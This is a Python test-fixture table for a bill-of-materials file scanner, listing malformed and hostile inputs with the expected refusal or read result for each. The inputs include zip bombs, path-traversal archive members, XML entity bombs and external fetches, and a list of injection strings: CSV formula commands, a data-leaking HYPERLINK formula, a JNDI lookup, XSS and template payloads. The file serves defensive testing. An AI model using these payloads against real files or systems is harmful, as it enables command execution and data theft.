"""The table of hostile files: what each is called, how it is made, and how the command must end."""
# ruff: noqa: E501 - one case a line

from __future__ import annotations

import json
from collections.abc import Callable
from typing import NamedTuple

from scanner.errors import Exit
from tests.files import as_csv
from tests.hostile import archives as z
from tests.hostile import found
from tests.hostile import texts as t
from tests.hostile import workbooks as w

READ, REFUSED = Exit.DONE, Exit.INPUT


class Case(NamedTuple):
    file: str
    """Name of the file, by which the case is called as well."""
    make: Callable[[], bytes]
    code: Exit = REFUSED
    says: str = ""
    """Stands in the one line of a refusal, or in the JSON result."""
    seconds: float = 10
    megabytes: int = 700


UNREAD = ("[Content_Types].xml", "_rels/.rels")
"""Parts that nobody reads: what they declare is never looked at."""
ENTITIES = [
    Case(
        f"{name}-{part.rpartition('/')[2].strip('[]')}.xlsx",
        lambda p=part, h=head: w.with_entities(p, h),
        READ if part in UNREAD else REFUSED,
    )  # type: ignore[misc]
    for name, head in (("laughs", w.LAUGHS), ("fetch", w.FETCH))
    for part in w.PARTS
]

KINDS = [
    Case("empty.xlsx", lambda: b"", says="empty"),
    Case("empty.csv", lambda: b"", says="empty"),
    Case("one-byte.xlsx", lambda: b"P"),
    Case("one-byte.csv", lambda: b"x"),
    Case("nul.csv", lambda: b"\0" * 4096),
    Case("nuls-within.csv", lambda: t.HEAD.encode() + b"M-1,Sm\0Co magnet,4,1\n" * 3, REFUSED),
    Case("nuls-late.csv", lambda: t.HEAD.encode() + b"M-1,SmCo magnet,4,1\n" * 300 + b"M-2,Sm\0Co,4,1\n", READ),
    Case("blanks.csv", lambda: b" \n\t\n" * 900),
    Case("line-ends.csv", lambda: b"\r\n" * 100_000),
    Case("marks-only.csv", lambda: b"\xef\xbb\xbf"),
    Case("pdf.xlsx", lambda: b"%PDF-1.7\n" + b"\0" * 99, says="PDF"),
    Case("png.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 99, says="picture"),
    Case("jpg.csv", lambda: b"\xff\xd8\xff\xe0" + bytes(range(256)), says="picture"),
    Case("elf.xlsx", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 99, says="program"),
    Case("exe.csv", lambda: b"MZ\x90\0" + b"\0" * 99, says="program"),
    Case("7z.xlsx", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 99, says="7z"),
    Case("rar.xlsx", lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 99, says="rar"),
    Case("gz.xlsx", lambda: b"\x1f\x8b\x08\0" + b"\0" * 99, says="gzip"),
    Case("sqlite.csv", lambda: b"SQLite format 3\0" + b"\0" * 99, says="database"),
    Case("rtf.csv", lambda: b"{\\rtf1\\ansi x}", says="rich text"),
    Case("noise.csv", lambda: bytes((x * 7919 + x // 251) % 256 for x in range(60_000))),
    Case("noise-no-nul.csv", lambda: bytes((x * 7919 + x // 251) % 255 + 1 for x in range(60_000))),
]

PACKED = [
    *(Case(f"cut-at-{s}.xlsx", lambda s=s: z.cut(s), says="damaged") for s in (0.1, 0.3, 0.5, 0.7, 0.9, 0.99)),  # type: ignore[misc]
    *(Case(f"flipped-{n}.xlsx", lambda n=n: z.flipped(n)) for n in (7, 97, 501)),  # type: ignore[misc]
    Case("bomb-flat.xlsx", z.flat_bomb, says="unpacks"),
    Case("bomb-flat.ods", lambda: z.flat_bomb("content.xml"), says="unpacks"),
    Case("bomb-flat.zip", lambda: z.flat_bomb("bom.csv"), says="unpacks"),
    Case("bomb-lying.xlsx", z.lying_bomb),
    Case("bomb-claim.xlsx", z.huge_claim, says="unpacks"),
    Case("bomb-overlapping.xlsx", z.overlapping, says="unpacks"),
    Case("nested-40.zip", lambda: z.nested(40)),
    Case("nested-2.zip", lambda: z.nested(2)),
    Case("members-50000.zip", lambda: z.many_entries(50_000), says="members"),
    Case("members-50000.xlsx", lambda: z.many_entries(50_000, "xml")),
    Case("climbs.zip", lambda: z.climbing("../../../../tmp/evil.csv"), says="path"),
    Case("absolute.zip", lambda: z.climbing("/etc/cron.d/evil.csv"), READ),
    Case("backslash.zip", lambda: z.climbing("..\\..\\evil.csv"), says="path"),
    Case("drive.zip", lambda: z.climbing("C:/evil.csv"), says="path"),
    Case("link.zip", z.symlink, says="link"),
    Case("member-password.zip", z.encrypted_member, says="password"),
    Case("member-method.zip", z.unknown_method),
    Case("empty.zip", lambda: b"PK\x05\x06" + b"\0" * 18),
    Case("word.docx", lambda: z.packed({"word/document.xml": "<x/>"}), says="text document"),
]

GRID = [
    Case("far-dimension.xlsx", w.far_dimension, READ),
    Case("far-cell.xlsx", lambda: w.far_cell("XFD1048576"), says="cells"),
    Case("far-cell-first.xlsx", lambda: w.far_cell("XFD1048576", before=True), says="cells"),
    Case("far-column.xlsx", lambda: w.far_cell("XFD4"), REFUSED, says="columns"),
    Case("far-row.xlsx", lambda: w.far_cell("A1048576"), READ, megabytes=1500, seconds=20),
    Case("beyond-grid.xlsx", lambda: w.far_cell("A4294967295")),
    Case("beyond-columns.xlsx", lambda: w.far_cell("ZZZZZZZ5")),
    Case("row-zero.xlsx", lambda: w.far_cell("A0")),
    Case("reference-huge.xlsx", lambda: w.far_cell("A" + "9" * 40)),
    Case("far-blank.xlsx", w.far_blank, READ),
    Case("out-of-order.xlsx", w.out_of_order, READ),
    Case("duplicate-cells.xlsx", w.duplicates, READ),
    Case("strings-missing.xlsx", lambda: z.changed({"xl/sharedStrings.xml": None})),
    Case("strings-empty.xlsx", lambda: w.strings("<sst/>")),
    Case("strings-beyond.xlsx", w.beyond_strings),
    Case("strings-count.xlsx", lambda: w.strings('<sst count="4294967295" uniqueCount="4294967295"><si/></sst>')),
    Case("merged-all.xlsx", lambda: w.merged("A1:XFD1048576"), READ),
    Case("merged-backwards.xlsx", lambda: w.merged("D9:A1"), READ),
    Case("merged-words.xlsx", lambda: w.merged("hello")),
    Case("merged-many.xlsx", lambda: w.many_merged(20_000), READ),
    Case("numbers.xlsx", lambda: w.numbers("1e999999999", "NaN", "INF", "-INF", "-0", "9" * 400, "1e308", "5e-324"), READ),
    Case("numbers-words.xlsx", lambda: w.numbers("abc", "", "--", "0x10"), READ),
    Case("dates.xlsx", lambda: w.dates("99999999999"), READ),
    Case("dates-negative.xlsx", lambda: w.dates("-99999"), READ),
    Case("dates-nan.xlsx", lambda: w.dates("1e300"), READ),
    Case("format-long.xlsx", lambda: w.formats("0" * 100_000), READ),
    Case("format-quotes.xlsx", lambda: w.formats("&quot;a" * 30_000), READ),
    Case("format-brackets.xlsx", lambda: w.formats("[$" * 30_000), READ),
    Case("format-many.xlsx", lambda: w.formats("[$&lt;script&gt;-409]0", 60_000), READ),
    Case("sheets-1000.xlsx", lambda: w.many_sheets(1000), says="sheets"),
    Case("sheets-200.xlsx", lambda: w.many_sheets(200), READ, seconds=25),
    Case("columns-16384.xlsx", lambda: w.wide(16_384), says="columns"),
    Case("columns-headed.xlsx", lambda: w.wide_heading(2_000), READ, seconds=25),
    Case("cell-32767.xlsx", lambda: w.as_xlsx({"BOM": [*z.ROWS, ["M-9", "magnet " * 4681, 1, 1]]}), READ),
    Case("cell-5-mb.xlsx", lambda: w.sheet(w.TABLE + w.row(5, "M-9", "magnet " * 700_000, 1, 1)), says="cell"),
    Case("header-only.xlsx", lambda: w.as_xlsx({"BOM": z.ROWS[:1]})),
    Case("no-cells.xlsx", lambda: w.sheet("")),
    Case("deep.xlsx", lambda: w.deep_xml(100_000), READ),
    Case("macros.xlsm", w.with_macros, READ, says="macro-ignored"),
    Case("links.xlsx", w.with_links, READ, says="external-link"),
    Case("formulas.xlsx", lambda: w.with_formulas(
        '=HYPERLINK("http://example.org/?"&A2,"x")', "=cmd|'/c calc'!A1", '=WEBSERVICE("http://example.org")'), READ),
    Case("sheet-name.xlsx", lambda: w.renamed_sheet("&lt;script&gt;=1+1{{7*7}}"), READ),
    Case("target-climbs.xlsx", w.climbing_target),
    Case("no-book.xlsx", lambda: z.changed({"xl/workbook.xml": "<workbook/>"})),
    Case("book-noise.xlsx", lambda: z.changed({"xl/workbook.xml": b"\xff\xfe\0<<<"})),
    Case("sheet-noise.xlsx", lambda: z.changed({w.SHEET: b"<worksheet><sheetData><row r='x'><c r='!'><v>"})),
]  # fmt: skip

ODS = [
    Case("rows-million.ods", lambda: w.ods_repeated(1_048_576, 1), READ, seconds=60),
    Case("rows-and-columns.ods", lambda: w.ods_repeated(1_048_576, 16_384)),
    Case("rows-and-columns-blank.ods", lambda: w.ods(w.ODS_TABLE + w.ODS_REST), READ),
    Case("columns-million.ods", lambda: w.ods_repeated(1, 1_000_000_000), says="columns"),
    Case("rows-huge.ods", lambda: w.ods_repeated("9" * 18, 1, ""), READ),
    Case("rows-huger.ods", lambda: w.ods_repeated("9" * 5000, "9" * 5000)),
    Case("rows-negative.ods", lambda: w.ods_repeated(-5, -5)),
    Case("rows-word.ods", lambda: w.ods_repeated("many", "x")),
    Case("laughs.ods", lambda: w.ods(w.ods_row("&a9;"), w.LAUGHS)),
    Case("fetch.ods", lambda: w.ods(w.ods_row("&a9;"), w.FETCH)),
    Case("quadratic.ods", lambda: w.ods(w.ods_row("&a9;" * 20_000), w.QUADRATIC)),
    Case("deep.ods", lambda: w.ods("<table:table-row>" * 100_000 + "</table:table-row>" * 100_000)),
]

COMPOUND = [
    Case("password.xlsx", lambda: w.compound(names=("EncryptedPackage", "EncryptionInfo")), says="password"),
    Case("word.doc", lambda: w.compound(names=("WordDocument",)), says="text document"),
    Case("no-stream.xls", lambda: w.compound(names=("Other",)), says="damaged"),
    Case("header-only.xls", lambda: w.compound()[:512]),
    Case("magic-only.xls", lambda: w.compound()[:8]),
    Case("noise.xls", lambda: w.compound()[:512] + bytes((x * 31) % 256 for x in range(5000))),
    Case("broken.xls", w.compound),
    Case("loop.xls", w.looping_compound),
    Case("sector-size.xls", lambda: w.compound(lambda x: x.__setitem__(slice(30, 32), b"\xff\xff"))),
    Case("sector-small.xls", lambda: w.compound(lambda x: x.__setitem__(slice(30, 32), b"\0\0"))),
    Case("fat-count.xls", lambda: w.compound(lambda x: x.__setitem__(slice(44, 48), b"\xff\xff\xff\x7f"))),
]

JSON = [
    Case("deep-lists.json", lambda: b"[" * 100_000 + b"]" * 100_000),
    Case("deep-objects.json", lambda: b'{"a":' * 100_000 + b"1" + b"}" * 100_000, says="JSON"),
    Case("deep-components.json", lambda: t.deep_components(100_000)),
    Case("deep-components-300.json", lambda: t.deep_components(300), says="nest"),
    Case("circle.json", t.circular, READ),
    Case("surrogates.json", t.surrogates),
    Case("wrong-types.json", lambda: t.cyclonedx({"a": 1}, metadata=[1, 2])),
    Case("wrong-metadata.json", lambda: t.cyclonedx([t.DEVICE], metadata="x"), READ),
    Case("wrong-parts.json", lambda: t.cyclonedx([1, None, "x", [], {**t.DEVICE, "properties": 5, "supplier": 7}]), READ),
    Case("wrong-properties.json", lambda: t.cyclonedx([{**t.DEVICE, "properties": {"a": 1}, "name": {"x": [1]}}]), READ),
    Case("number-huge.json", lambda: b'[{"part number":"A","qty":1e999},{"part number":"B","qty":' + b"9" * 5000 + b"}]"),
    Case("nan.json", lambda: b'[{"part number":"A","qty":NaN}]'),
    Case("keys-many.json", lambda: json.dumps([{f"k{n}": n for n in range(100_000)}]).encode(), says="columns"),
    Case("cut.json", lambda: t.cyclonedx([t.DEVICE])[:-20], says="JSON"),
    Case("scalar.json", lambda: b'{"bomFormat":"CycloneDX"}'),
]  # fmt: skip

XML = [
    Case("laughs-kicad.xml", t.laughing_kicad, says="safety"),
    Case("laughs-ipc.xml", lambda: t.ipc("&a9;", w.LAUGHS), says="safety"),
    Case("fetch-kicad.xml", lambda: t.kicad("&a9;", w.FETCH), says="safety"),
    Case("fetch-ipc.xml", lambda: t.ipc("x", w.FETCH), says="safety"),
    Case("external-dtd.xml", lambda: t.kicad(head='<!DOCTYPE export SYSTEM "http://example.org/x.dtd">'), READ),
    Case("parameter-entity.xml", lambda: t.kicad(head='<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.org/"> %p;]>'),
         says="safety"),
    Case("quadratic-excel.xml", lambda: t.excel_2003("&a9;", head=w.QUADRATIC), says="safety"),
    Case("circle-ipc.xml", t.ipc_circle, READ),
    Case("deep-ipc.xml", lambda: t.deep_ipc(2000), says="nest"),
    Case("deep.xml", lambda: t.deep("a", 100_000)),
    Case("deep-declared.xml", lambda: t.deep("Product", 50_000)),
    Case("deep-component.xml", lambda: b'<bom xmlns="http://cyclonedx.org/schema/bom/1.6">' + t.deep("components", 50_000)
         + b"</bom>"),
    Case("wide-ipc.xml", lambda: t.wide_ipc(3000, 60), READ, seconds=30),
    Case("records-many-tags.xml", lambda: t.records(50_000, 25_000)),
    Case("index-huge.xml", lambda: t.excel_2003("9" * 30, "9" * 30)),
    Case("index-far.xml", lambda: t.excel_2003("4000", "900000"), says="cells"),
    Case("index-digits.xml", lambda: t.excel_2003("9" * 5000)),
    Case("index-superscript.xml", lambda: t.excel_2003("²"), READ),
    Case("colspan.html", lambda: t.page("999999999", 2000), says="columns"),
    Case("colspan-digits.html", lambda: t.page("9" * 5000)),
    Case("not-closed.xml", lambda: t.kicad()[:-12], says="well-formed"),
    Case("encoding-lie.xml", lambda: b"<?xml version='1.0' encoding='utf-16'?><export/>"),
    Case("encoding-unknown.xml", lambda: b"<?xml version='1.0' encoding='klingon'?><export/>"),
]  # fmt: skip

STRUCTURE = [
    Case("levels-circle.csv", lambda: t.leveled([0, 1, 2, 1, 0, 2, 1]), READ),
    Case("levels-jump.csv", lambda: t.leveled([1, 9, 2, 99999, 1]), READ),
    Case("levels-negative.csv", lambda: t.leveled([-1, -5, 0, 1]), READ),
    Case("levels-huge.csv", lambda: t.leveled(["9" * 5000, 1, 2, 1]), READ),
    Case("levels-odd.csv", lambda: t.leveled(["²", "①", "١", "1.1", "x"]), READ),
    Case("levels-dotted.csv", lambda: t.leveled([".".join(["1"] * n) for n in range(1, 400)]), READ),
    Case("levels-50000.csv", lambda: t.leveled(list(range(1, 50_001))), REFUSED, says="nest", seconds=20),
    Case("levels-900.csv", lambda: t.leveled(list(range(1, 900))), says="nest"),
    Case("parent-itself.csv", lambda: t.parents([("A", "A"), ("B", "B"), ("C", "A")]), READ),
    Case("parent-circle.csv", lambda: t.parents([("A", "B"), ("B", "C"), ("C", "A")]), READ),
    Case("parent-chain.csv", lambda: t.parents([(f"P{n}", f"P{n - 1}") for n in range(1, 20_000)]), REFUSED, says="nest", seconds=20),
    Case("parent-missing.csv", lambda: t.parents([("A", "nobody"), ("B", "")]), READ),
    Case("quantities.csv", lambda: t.quantities(
        "1e999999999", "9" * 5000, "NaN", "Infinity", "-0", "1e-999999999", "0x10", "--1", "1,2,3.4.5", "٣", "½", "²",
        "1" + "0" * 400, "-5", "1e400", "sNaN", "1_000", "９９"), READ),
    Case("quantities-long.csv", lambda: t.quantities("1 " * 9000, "1," * 9000, "1x" * 9000, "(" * 9000, "1/" * 9000), READ, seconds=20),
]  # fmt: skip

TEXT = [
    Case("quotes-open.csv", lambda: t.HEAD.encode() + b'M-1,"SmCo magnet,4,1\n' + b"S-1,Screw,1,1\n" * 5000, says="cell"),
    Case("quotes-wild.csv", lambda: t.HEAD.encode() + b'"M"1"",""",""",4\n' * 500, READ),
    Case("columns-100000.csv", lambda: b",".join(b"c%d" % n for n in range(100_000)) + b"\n" + b"1," * 99_999, says="columns"),
    Case("columns-one-row.csv", lambda: t.HEAD.encode() + t.BODY.encode() + b"x," * 200_000, says="columns"),
    Case("rows-only-delimiters.csv", lambda: t.HEAD.encode() + t.BODY.encode() + b",,,\n" * 300_000, READ, seconds=20),
    Case("field-70-mb.csv", lambda: t.HEAD.encode() + b'"' + b"x" * 70_000_000 + b'"', says="cell"),
    Case("mixed-encodings.csv", lambda: t.HEAD.encode() + "M-1,Gehäuse,1,1\n".encode("cp1252") + "M-2,磁铁,1,1\n".encode(), READ),
    Case("utf16-no-mark.csv", lambda: (t.HEAD + t.BODY).encode("utf-16-le"), READ),
    Case("utf16-cut.csv", lambda: (t.HEAD + t.BODY).encode("utf-16")[:-1]),
    Case("utf16-surrogates.csv", lambda: (t.HEAD + t.BODY + "M-3,\ud800,1,1\n").encode("utf-16-le", "surrogatepass")),
    Case("utf32.csv", lambda: (t.HEAD + t.BODY).encode("utf-32"), READ),
    Case("utf7.csv", lambda: (t.HEAD + "M-1,+ADw-script+AD4-alert(1),1,1\n").encode(), READ),
    Case("mark-doubled.csv", lambda: b"\xef\xbb\xbf" * 3 + (t.HEAD + t.BODY).encode(), READ),
    Case("surrogate-bytes.csv", lambda: (t.HEAD + t.BODY).encode() + b"M-3,\xed\xa0\x80,1,1\n", READ),
    Case("sep-itself.csv", lambda: b"sep=\n" + (t.HEAD + t.BODY).encode(), READ),
    Case("sep-quote.csv", lambda: b'sep="\n' + (t.HEAD + t.BODY).encode(), READ),
    Case("sep-nul.csv", lambda: b"sep=\r\n" + (t.HEAD + t.BODY).encode(), READ),
    Case("separators-odd.csv", lambda: (t.HEAD + "M-1,Sm\x1cCo\x1d\x85 \u2028magnet,1,1\n").encode(), READ),
    Case("cells-long.csv", lambda: t.with_line("M-9", "SmCo " * 6000, "4", "1"), READ),
    Case("cell-repeats.csv", lambda: t.with_line("M-9", "a1" * 15_000, "4", "1"), READ),
    Case("cell-brackets.csv", lambda: t.with_line("M-9", "(" * 15_000 + "Sm2Co17", "4", "1"), READ),
    Case("cell-formula.csv", lambda: t.with_line("M-9", "Sm2(Co" * 5000, "4", "1"), READ),
    Case("cell-digits.csv", lambda: t.with_line("9" * 30_000, "9" * 30_000, "4", "1"), READ),
    Case("cell-blanks.csv", lambda: t.with_line("M-9", "x" + " " * 30_000 + "y", "4", "1"), READ),
    Case("cell-percent.csv", lambda: t.with_line("M-9", "99.9" * 8000 + "% Sm", "4", "1"), READ),
    Case("cell-units.csv", lambda: t.with_line("M-9", "5 x " * 8000 + "mm", "4", "1"), READ),
    Case("cell-commas.csv", lambda: t.with_line("M-9", "1," * 15_000, "4", "1"), READ),
    Case("cell-combining.csv", lambda: t.with_line("M-9", "e" + "\u0301" * 15_000, "4", "1"), READ),
    Case("cell-ligature.csv", lambda: t.with_line("M-9", "\ufdfa" * 15_000, "4", "1"), READ),
]  # fmt: skip

TRAPS = {
    "bidi": "\u202eabc\u202c\u2066x\u2069",
    "zero-width": "Sm\u200bCo\ufeff mag\u200dnet",
    "ansi": "\x1b[2J\x1b]0;owned\x07\x1b[31m",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover=\"alert(1)' x='",
    "formula": "=cmd|'/c calc'!A1",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-plus": '+HYPERLINK("http://example.org","x")',
    "template": "{{7*7}}{% for x in range(9) %}{{ x.__class__ }}{% endfor %}",
    "markdown": "[x](javascript:alert(1)) ![x](http://example.org/p.png) `|` ***",
    "format": "%s%n%x {0.__class__} ${jndi:ldap://example.org}",
    "rich-markup": "[bold red]x[/] [link=file:/etc/../etc/passwd]x[/link]",
    "xml-escape": "_x0000_ _x001B_ ]]> <!-- &lt",
    "carriage": "a\rb\x0bc\x0cd",
}
INJECTED = [Case(f"trap-{name}.csv", lambda x=x: t.everywhere(x), READ) for name, x in TRAPS.items()]  # type: ignore[misc]

FOUND = [Case(name, make, says=says) for name, make, says in found.FILES]

CASES = [*FOUND, *KINDS, *PACKED, *ENTITIES, *GRID, *ODS, *COMPOUND, *JSON, *XML, *STRUCTURE, *TEXT, *INJECTED]
PLAIN = as_csv(z.ROWS)
